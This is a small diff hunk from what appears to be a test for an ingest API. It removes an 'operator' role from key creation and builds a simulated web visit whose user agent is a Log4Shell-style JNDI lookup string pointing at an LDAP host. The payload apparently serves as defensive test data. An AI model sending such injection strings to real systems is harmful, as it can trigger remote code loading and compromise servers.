@@ -30,7 +30,7 @@ beforeAll(async () => {
       { now },
     )
   const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
-  const { secret } = await deps.installation.keys.create({ workspace: workspace.id, role: 'operator', now })
+  const { secret } = await deps.installation.keys.create({ workspace: workspace.id, now })
   const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
   const body = new Uint8Array(captureOf([webVisit('198.18.7.1', jndi, now - 60_000)]))
   const taken = await fetch(new URL('/api/ingest/captures', inside.url), {
